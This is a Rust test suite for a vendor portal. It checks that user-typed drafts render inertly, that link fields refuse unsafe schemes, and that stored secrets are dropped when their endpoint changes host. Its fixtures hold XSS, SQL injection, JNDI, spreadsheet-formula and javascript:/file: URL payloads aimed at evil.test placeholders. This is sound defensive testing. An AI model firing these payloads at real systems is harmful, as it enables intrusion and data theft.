//! What people type into a draft and what is made of it: texts that want to be something else
//! (SECURITY rows 17 and 45 to 47), and an address that changes under its secret (row 33).

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use super::{Program, fingerprint, general, named};
use crate::harness::{Person, TestApp, rows, tags, text_of};

/// Texts that a name may be, and that stay texts.
const TEXTS: [&str; 9] = [
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "{{7*7}} {{{x}}} {{> admin}}",
    "${jndi:ldap://evil.test/a} ${7*7}",
    "%s%n%x %00",
    "\"'`&amp;<!--",
    "' OR 1=1; DROP TABLE users; --",
    "=HYPERLINK(\"https://evil.test\")",
    "<svg/onload=alert(1)>",
];

/// A browser and a program of the same owner.
fn vendor(app: &TestApp) -> (Person<'_>, Program<'_>) {
    let owner = app.publisher("quillwharf");
    let program = Program::of(app, &owner);
    (owner, program)
}

/// The page of the portal for an address of the API.
fn page_of(draft: &str) -> String {
    draft.replace("/api/v1/", "/portal/")
}

/// No text of a page has become an element, an attribute or an address that does something.
#[track_caller]
fn is_tame(path: &str, page: &str) {
    for tag in tags(page) {
        let bad = ["onerror", "onload", "onfocus", "style"];
        assert!(bad.iter().all(|name| tag.get(name).is_none()), "{path}: {tag:?}");
        assert!(
            tag.name != "script" || tag.get("src").is_some_and(|src| src.starts_with("/assets/")),
            "{path}: {tag:?}"
        );
        assert!(tag.get("src") != Some("x"), "{path}: {tag:?}");
        for name in ["href", "action", "formaction"] {
            let Some(place) = tag.get(name) else { continue };
            let place = place.trim_start().to_ascii_lowercase();
            let place: String = place.chars().filter(|c| !c.is_ascii_control()).collect();
            let leads_away = ["javascript:", "data:", "vbscript:", "file:", "//", "/\\"];
            assert!(
                !leads_away.iter().any(|start| place.starts_with(start)),
                "{path}: {tag:?}"
            );
        }
    }
}

/// Every page that shows a draft to its org.
fn pages(draft: &str) -> Vec<String> {
    let page = page_of(draft);
    let steps = [
        "",
        "/general",
        "/sign-on",
        "/variables",
        "/people",
        "/submit",
        "/guide",
    ];
    let mut pages: Vec<String> = steps.iter().map(|step| format!("{page}{step}")).collect();
    pages.push("/portal".to_owned());
    pages
}

#[test]
fn row_45_what_is_typed_is_shown_as_typed() {
    let app = TestApp::start();
    let (owner, program) = vendor(&app);
    let mut fields = general("Quillwharf Start");
    fields["connections"] = json!([{ "type": "bookmark", "url": "https://app.quillwharf.example/" }]);
    let draft = program.begin(&fields);
    for text in TEXTS {
        let fields = json!({
            "name": text, "summary": text, "description": text, "vendor": text,
            "testing.logins.0.role": text, "contacts.support.name": text,
        });
        let answer = program.patch(&draft, &fields);
        assert!(answer["revision"].is_number(), "{answer}");
        assert_eq!(program.json(&draft)["fields"]["name"], text);
        for path in pages(&draft) {
            let page = owner.get(&path);
            assert!(
                page.status == 200 || page.status == 422,
                "{path}: {}",
                page.status
            );
            is_tame(&path, page.text());
            // Of what is read: ids and tokens hold any digits.
            let read = text_of(page.text(), "main");
            assert!(!read.contains("49"), "{path}: a template was run");
        }
        let shown = owner.get(&format!("{}/general", page_of(&draft))).expect(200);
        let typed = crate::harness::unescaped(shown.text());
        assert!(typed.contains(text), "{text:?} is not shown as typed");
    }
    // What no text may hold is refused at its field; or kept as it was typed, and goes no further.
    let hidden = [
        "a\0b",
        "a\u{202e}gnp.exe",
        "a\u{200b}b",
        "a\u{7}b",
        &"x".repeat(600_000),
    ];
    for text in hidden {
        let state = fingerprint(&app);
        let body = json!({ "fields": { "name": text } });
        let began = Instant::now();
        let answer = program.call(Method::PATCH, &draft, &[("if-match", "*")], Some(&body));
        assert!(began.elapsed() < Duration::from_secs(2));
        if answer.status == 422 {
            assert_eq!(named(&answer.json()), ["name"]);
            assert_eq!(fingerprint(&app), state);
            continue;
        }
        let judged = answer.expect(200).json();
        let mut findings = judged["judged"]["findings"].as_array().unwrap().iter();
        let stops = findings.any(|finding| finding["field"] == "name" && finding["severity"] == "blocks");
        assert!(stops, "{text:?}: {judged}");
        program
            .post(&format!("{draft}/submit"), &json!({}))
            .problem(422, "blocking_finding");
    }
    rows::passed(45, TEXTS.len() + hidden.len());
}

#[test]
fn row_17_a_relay_state_is_only_a_text() {
    let app = TestApp::start();
    let (owner, program) = vendor(&app);
    let mut fields = general("Quillwharf Start");
    fields["connections"] =
        json!([{ "type": "saml", "acs": [{ "url": "https://app.quillwharf.example/acs" }] }]);
    let draft = program.begin(&fields);
    let texts = [
        "\"><script>alert(1)</script>",
        "javascript:alert(1)",
        "https://evil.test/",
        "//evil.test",
        &"a".repeat(81),
        &"a".repeat(512),
    ];
    for text in texts {
        program.patch(&draft, &json!({ "connections.0.relay_state": text }));
        for path in pages(&draft) {
            let page = owner.get(&path);
            is_tame(&path, page.text());
            let leads = tags(page.text());
            let leads = leads.iter().filter_map(|tag| tag.get("href"));
            assert!(
                leads.into_iter().all(|place| place != text),
                "{path}: a link to it"
            );
        }
        let shown = owner.get(&format!("{}/sign-on", page_of(&draft))).expect(200);
        assert!(crate::harness::unescaped(shown.text()).contains(text), "{text}");
    }
    // A longer one is kept as it was typed, and goes no further.
    let long = json!({ "connections.0.relay_state": "a".repeat(513) });
    let judged = program.patch(&draft, &long);
    let mut findings = judged["judged"]["findings"].as_array().unwrap().iter();
    let told = findings.find(|finding| finding["field"] == "connections.0.relay_state");
    let told = told.unwrap_or_else(|| panic!("{judged}"));
    assert_eq!(told["severity"], "blocks", "{told}");
    assert!(told["message"].as_str().unwrap().contains("512"), "{told}");
    program
        .post(&format!("{draft}/submit"), &json!({}))
        .problem(422, "blocking_finding");
    rows::passed(17, texts.len() + 1);
}

/// The fields that lead somewhere.
const LINKS: [&str; 5] = [
    "website",
    "support.url",
    "documentation",
    "connections.0.url",
    "testing.logins.0.url",
];

#[test]
fn row_46_links_lead_over_https_or_nowhere() {
    let app = TestApp::start();
    let (owner, program) = vendor(&app);
    let mut fields = general("Quillwharf Start");
    fields["connections"] = json!([{ "type": "bookmark", "url": "https://app.quillwharf.example/" }]);
    let draft = program.begin(&fields);
    let addresses = [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.test/",
        "/\\evil.test/",
        "http://quillwharf.example/",
        "file:///etc/passwd",
    ];
    let mut tried = 0;
    for address in addresses {
        for field in LINKS {
            let before = program.json(&draft)["fields"][field].clone();
            let body = json!({ "fields": { field: address } });
            let answer = program.call(Method::PATCH, &draft, &[("if-match", "*")], Some(&body));
            if answer.status == 422 {
                assert_eq!(named(&answer.json()), [field], "{address}");
            } else {
                // A draft keeps what was typed; it goes no further than there.
                let checked = program.post(&format!("{draft}/check"), &json!({})).json();
                let mut findings = checked["findings"].as_array().unwrap().iter();
                assert!(
                    findings.any(|finding| finding["field"] == field && finding["severity"] == "blocks"),
                    "{address} at {field}: {checked}"
                );
                program
                    .post(&format!("{draft}/submit"), &json!({}))
                    .problem(422, "blocking_finding");
            }
            for path in pages(&draft) {
                is_tame(&path, owner.get(&path).text());
            }
            let back = json!({ field: if before.is_null() { json!("") } else { before } });
            program.patch(&draft, &back);
            tried += 1;
        }
    }
    rows::passed(46, tried);
}

#[test]
fn row_47_markdown_is_no_way_to_markup() {
    let app = TestApp::start();
    let (owner, program) = vendor(&app);
    let mut fields = general("Quillwharf Start");
    fields["connections"] = json!([{ "type": "bookmark", "url": "https://app.quillwharf.example/" }]);
    let draft = program.begin(&fields);
    let texts = [
        "[click](javascript:alert(1))".to_owned(),
        "<a href=\"javascript:alert(1)\">click</a>".to_owned(),
        "![x](https://evil.test/pixel.png)".to_owned(),
        "<iframe src=\"https://evil.test\"></iframe>".to_owned(),
        "[x]: javascript:alert(1)\n[x]".to_owned(),
        "<javascript:alert(1)>".to_owned(),
        "```\n</code></pre><script>alert(1)</script>\n```".to_owned(),
        format!("{}x", ">".repeat(1_000)),
        "[".repeat(1_000),
        "*".repeat(1_000),
    ];
    for text in &texts {
        program.patch(&draft, &json!({ "description": text }));
        let began = Instant::now();
        for path in pages(&draft) {
            let page = owner.get(&path);
            is_tame(&path, page.text());
            for tag in tags(page.text()) {
                let outside = ["src", "href"].iter().filter_map(|name| tag.get(name));
                assert!(
                    outside.into_iter().all(|place| !place.contains("evil.test")),
                    "{path}: {tag:?}"
                );
                assert!(tag.name != "iframe", "{path}");
            }
        }
        assert!(began.elapsed() < Duration::from_secs(4), "{}", &text[..4]);
    }
    // More than a description holds.
    let state = fingerprint(&app);
    for text in [">".repeat(100_000), "[".repeat(100_000)] {
        let began = Instant::now();
        let body = json!({ "fields": { "description": text } });
        let answer = program.call(Method::PATCH, &draft, &[("if-match", "*")], Some(&body));
        assert!(began.elapsed() < Duration::from_secs(2));
        let told: Value = answer.json();
        assert!(told.to_string().contains("20000 characters"), "{told}");
        assert_eq!(named(&told), ["description"]);
        assert_eq!(fingerprint(&app), state);
    }
    rows::passed(47, texts.len() + 2);
}

#[test]
fn row_33_a_secret_goes_when_its_address_leads_elsewhere() {
    let app = TestApp::start();
    let (owner, program) = vendor(&app);
    let draft = program.begin(&json!({ "name": "Quillwharf Start" }));
    let raw = app.database().raw();
    let kept = || -> i64 {
        let sql = "SELECT count(*) FROM sealed_secrets WHERE place = 'submissions'";
        crate::harness::wait(raw.query_one(sql, &[])).unwrap().get(0)
    };
    let places = [
        (
            "scim.base_url",
            "scim.token",
            "https://api.quillwharf.example/scim/v2",
        ),
        (
            "testing.logins.0.url",
            "testing.logins.0.password",
            "https://login.quillwharf.example/login",
        ),
    ];
    let elsewhere = [
        "https://evil.example/scim",
        "https://api.quillwharf.example.evil.example/",
        "https://api.quillwharf.example:8443/scim/v2",
        "https://evil.example/?https://api.quillwharf.example/",
        "http://api.quillwharf.example/scim/v2",
        "",
    ];
    for (address, secret, first) in places {
        for other in elsewhere {
            program.patch(&draft, &json!({ address: first }));
            let put = format!("{draft}/secrets/{secret}");
            program
                .call(Method::PUT, &put, &[], Some(&json!({ "value": "canary-7f3a9b" })))
                .expect(200);
            assert_eq!(kept(), 1, "{secret}");
            let saved = program.patch(&draft, &json!({ address: other }));
            assert_eq!(saved["dropped_secrets"], json!([secret]), "{other}");
            assert_eq!(kept(), 0, "{secret} stays after {other}");
            assert_eq!(program.json(&draft)["secrets"], json!([]));
            for path in pages(&draft) {
                assert!(!owner.get(&path).text().contains("canary-7f3a9b"), "{path}");
            }
        }
    }
    rows::passed(33, places.len() * elsewhere.len());
}
